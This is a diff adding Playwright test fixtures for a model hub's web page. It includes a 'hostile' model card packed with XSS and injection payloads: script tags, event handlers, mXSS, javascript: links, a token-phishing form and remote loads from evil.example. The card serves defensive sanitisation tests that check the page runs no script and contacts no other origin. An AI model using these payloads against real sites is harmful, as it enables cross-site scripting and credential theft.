@@ -1,0 +1,228 @@
+"""Fixtures for the page: one Chromium, a signed-in page, a repository whose card attacks."""
+
+from __future__ import annotations
+
+import base64
+import json
+import shutil
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import start_fust
+
+playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+
+CHROMIUM = next(
+    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
+)
+AXE = Path(__file__).resolve().parents[2] / "ui/node_modules/axe-core/axe.min.js"
+
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--no-first-run",
+    "--disable-sync",
+]
+
+HOSTILE_CARD = """---
+license: apache-2.0
+---
+# A card that attacks
+
+<script>window.pwned = "script"</script>
+<img src=x onerror="window.pwned = 'onerror'">
+<svg onload="window.pwned = 'svg'"><animate onbegin="window.pwned = 'animate'" /></svg>
+<style>body { display: none } @import url(https://evil.example/x.css);</style>
+<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">
+<meta http-equiv=refresh content="0;url=https://evil.example/">
+<form action="https://evil.example/"><input name=token><button id=bait>Sign in</button></form>
+<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
+<div style="position:fixed;inset:0;background:red" onclick="window.pwned='click'" id=main class=skip>styled</div>
+<details open ontoggle="window.pwned='toggle'"><summary>s</summary></details>
+<math><mtext><style><img src=x onerror="window.pwned='mxss'"></style></mtext></math>
+[a trap](javascript:window.pwned=1) [data](data:text/html,<script>1</script>)
+<a href="jAvAsCrIpT:window.pwned=1" target=_self>mixed</a> <a href="//evil.example/x">other host</a>
+![remote](https://evil.example/logo.png) ![up](../../../../fust/v1/session)
+
+| a | b |
+|---|---:|
+| a wide cell that goes on and on and on and on and on and on and on | 1 |
+
+The end of the card.
+"""
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Any]:
+    """Chromium, once for all tests."""
+    if CHROMIUM is None:
+        pytest.skip("no Chromium on this machine (apt-get install chromium)")
+    with playwright.sync_playwright() as driver:
+        running = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield running
+        running.close()
+
+
+@pytest.fixture(scope="session")
+def starter_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+    """A server with the starter model, for all tests of the page."""
+    running = start_fust(tmp_path_factory.mktemp("page") / "home", starter=True)
+    yield running
+    running.stop()
+
+
+@pytest.fixture(scope="session")
+def axe() -> str:
+    """The source of axe-core."""
+    if not AXE.is_file():
+        pytest.skip("axe-core is not installed (cd ui && npm ci)")
+    return AXE.read_text()
+
+
+class Watch:
+    """What a page did that it must not: requests to other origins, script errors, refusals of the content policy."""
+
+    def __init__(self, page: Any, origin: str) -> None:
+        self.outside: list[str] = []
+        self.faults: list[str] = []
+        page.on("request", lambda request: self._request(request.url, origin))
+        page.on("pageerror", lambda error: self.faults.append(str(error)))
+        page.on("console", lambda message: self._console(message))
+
+    def _request(self, url: str, origin: str) -> None:
+        if not url.startswith((origin + "/", "data:", "blob:")):
+            self.outside.append(url)
+
+    def _console(self, message: Any) -> None:
+        # Answers of 4xx are logged by the browser as well; they are part of some tests.
+        if message.type == "error" and "Failed to load resource" not in message.text:
+            self.faults.append(message.text)
+
+    def check(self) -> None:
+        """Fails when the page did any of it."""
+        assert self.outside == [], "the page asked another origin"
+        assert self.faults == [], "the page had errors"
+
+
+@pytest.fixture
+def open_page(browser: Any, starter_server: Any) -> Iterator[Callable[..., Any]]:
+    """Opens signed-in pages: `open_page("models", lang="zh-CN", width=360)`. Checks at the end what they did."""
+    contexts: list[Any] = []
+    watches: list[Watch] = []
+
+    def start(
+        path: str | None = "",
+        *,
+        lang: str = "en-GB",
+        width: int = 1280,
+        scheme: str = "light",
+        signed_in: bool = True,
+    ) -> Any:
+        context = browser.new_context(
+            locale=lang,
+            viewport={"width": width, "height": 900},
+            color_scheme=scheme,
+            base_url=starter_server.url,
+        )
+        contexts.append(context)
+        context.set_default_timeout(15_000)
+        page = context.new_page()
+        watches.append(Watch(page, starter_server.url))
+        if signed_in:
+            sign_in(context, starter_server)
+        if path is not None:
+            page.goto("/" + path)
+        return page
+
+    yield start
+    for context in contexts:
+        context.close()
+    for watch in watches:
+        watch.check()
+
+
+def sign_in(context: Any, server: Any) -> None:
+    """Gives the browser a session, as the sign-in form would."""
+    answer = context.request.post(
+        server.url + "/fust/v1/session", data={"token": server.token}, headers={"origin": server.url}
+    )
+    assert answer.ok, answer.text()
+
+
+def commit_file(server: Any, repo_id: str, kind: str, path: str, text: str) -> None:
+    """Commits one text file through the hub's interface."""
+    lines = [
+        {"key": "header", "value": {"summary": f"Add {path}", "description": ""}},
+        {
+            "key": "file",
+            "value": {
+                "path": path,
+                "encoding": "base64",
+                "content": base64.b64encode(text.encode()).decode(),
+            },
+        },
+    ]
+    body = "\n".join(json.dumps(line) for line in lines).encode()
+    status, _, answer = server.request(
+        "POST", f"/api/{kind}s/{repo_id}/commit/main", body, headers={"content-type": "application/x-ndjson"}
+    )
+    assert status == 200, answer
+
+
+def make_repo(server: Any, repo_id: str, kind: str, card: str) -> None:
+    """Makes a repository with a card."""
+    owner, name = repo_id.split("/")
+    status, _, answer = server.request(
+        "POST", "/api/repos/create", {"name": name, "organization": owner, "type": kind, "private": False}
+    )
+    assert status in (200, 201, 409), answer
+    commit_file(server, repo_id, kind, "README.md", card)
+
+
+@pytest.fixture(scope="session")
+def hostile(starter_server: Any) -> str:
+    """A model whose card attacks; returns its id."""
+    make_repo(starter_server, "admin/hostile", "model", HOSTILE_CARD)
+    return "admin/hostile"
+
+
+@pytest.fixture(scope="session")
+def dataset(starter_server: Any) -> str:
+    """A dataset with a card; returns its id."""
+    make_repo(starter_server, "admin/questions", "dataset", "# Questions\n\nOf pupils.\n")
+    return "admin/questions"
+
+
+@pytest.fixture(scope="session")
+def failed_run(starter_server: Any) -> str:
+    """A pull of something that does not exist, ended; returns its id."""
+    params = {"repo_id": "nobody/nothing", "source": starter_server.url}
+    status, _, body = starter_server.request("POST", "/fust/v1/runs", {"kind": "pull", "params": params})
+    assert status == 201, body
+    run_id = json.loads(body)["id"]
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        run = json.loads(starter_server.request("GET", f"/fust/v1/runs/{run_id}")[2])
+        if run["state"] in ("failed", "succeeded", "cancelled"):
+            return run_id
+        time.sleep(0.1)
+    raise AssertionError("the pull did not end")
+
+
+@pytest.fixture(scope="session")
+def model(starter_server: Any) -> dict[str, Any]:
+    """The starter's deployment, once it can answer."""
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        items = json.loads(starter_server.request("GET", "/fust/v1/deployments")[2])["items"]
+        ready = [it for it in items if it["state"] in ("ready", "idle")]
+        if ready:
+            return ready[0]
+        time.sleep(0.1)
+    raise AssertionError("the starter model does not serve")
